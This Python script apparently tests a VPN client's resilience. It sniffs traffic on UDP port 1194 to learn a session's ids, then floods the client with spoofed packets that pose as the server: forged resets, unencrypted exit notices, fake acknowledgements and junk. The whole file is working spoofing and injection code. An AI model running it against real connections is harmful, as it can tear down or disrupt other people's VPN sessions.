"""Somebody on the path who floods a client with what it must not believe.

    flood.py SERVER-ADDRESS COUNT

Run as root beside the server. Says "listening", watches a client connect over
UDP, says "flooding" when it carries data, and sends COUNT datagrams that seem
to come from the server: resets with strange and with the real session ids, soft
resets with wrong key ids, exit notifies that nobody encrypted, acknowledgements
and rubbish. Says "done" at the end.
"""

import os
import random
import socket
import struct
import sys
import time

SOFT_RESET, ACK, HARD_RESET, DATA = 3, 5, 8, 9
EXIT = bytes.fromhex("287f346bd4ef7a812d56b8d3afc5459c") + b"\x06"
PER_SECOND = 8000


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Tap:
    """What goes by on the wire: UDP over IPv4 from and to the server."""

    def __init__(self, server):
        self.server = socket.inet_aton(server)
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                                  socket.htons(3))

    def next(self):
        """(to the server, address of the client, its port, payload)"""
        while True:
            packet = self.wire.recv(2048)
            if len(packet) < 28 or packet[0] != 0x45 or packet[9] != 17:
                continue
            source, to = packet[12:16], packet[16:20]
            ports = struct.unpack("!HH", packet[20:24])
            if to == self.server and ports[1] == 1194:
                return True, source, ports[0], packet[28:]
            if source == self.server and ports[0] == 1194:
                return False, to, ports[1], packet[28:]


def learn(tap):
    """Waits until data flows; address, port and both session ids."""
    client_sid = server_sid = bytes(8)
    while True:
        up, address, port, payload = tap.next()
        kind = payload[0] >> 3 if payload else 0
        if kind in (7, HARD_RESET) and len(payload) > 8:
            if up:
                client_sid = payload[1:9]
            else:
                server_sid = payload[1:9]
        if kind == DATA and up:
            return address, port, client_sid, server_sid


def control(kind, key_id, own, acks=(), peer=b"", message=0):
    acked = b"".join(struct.pack("!I", x) for x in acks)
    return (bytes([kind << 3 | key_id]) + own + bytes([len(acks)]) + acked
            + (peer if acks else b"")
            + (b"" if kind == ACK else struct.pack("!I", message)))


def lie(chance, client_sid, server_sid):
    """One datagram of the flood."""
    strange = chance.randbytes(8)
    what = chance.randrange(9)
    if what == 0:
        return control(HARD_RESET, 0, strange, [0], client_sid)
    if what == 1:
        return control(HARD_RESET, 0, server_sid, [0], client_sid)
    if what == 2:
        return control(SOFT_RESET, chance.randrange(8), strange)
    if what == 3:
        # The next one would be 1, and that nobody can tell from the server's.
        return control(SOFT_RESET, chance.randrange(2, 8), server_sid)
    if what == 4:
        return control(ACK, 0, strange, range(4), client_sid)
    if what == 5:
        return bytes([DATA << 3, 0, 0, 0]) + EXIT
    if what == 6:
        return (bytes([DATA << 3, 0, 0, 0]) + chance.randbytes(4)
                + chance.randbytes(16) + EXIT)
    if what == 7:
        return control(HARD_RESET, 0, server_sid)[:chance.randrange(1, 14)]
    return chance.randbytes(chance.randrange(1, 200))


def datagram(source, to, port, payload):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64,
                         17, 0, source, to)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    # Without a checksum of UDP, as IPv4 allows.
    return header + struct.pack("!HHHH", 1194, port, 8 + len(payload), 0) \
        + payload


def main(server, count):
    tap = Tap(server)
    print("listening", flush=True)
    address, port, client_sid, server_sid = learn(tap)
    print("flooding", flush=True)
    chance = random.Random(1)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    began = time.monotonic()
    for number in range(count):
        packet = datagram(tap.server, address, port,
                          lie(chance, client_sid, server_sid))
        out.sendto(packet, (socket.inet_ntoa(address), 0))
        ahead = began + number / PER_SECOND - time.monotonic()
        if ahead > 0.01:
            time.sleep(ahead)
    print("done", flush=True)
    os._exit(0)


if len(sys.argv) != 3:
    sys.exit(__doc__)
main(sys.argv[1], int(sys.argv[2]))
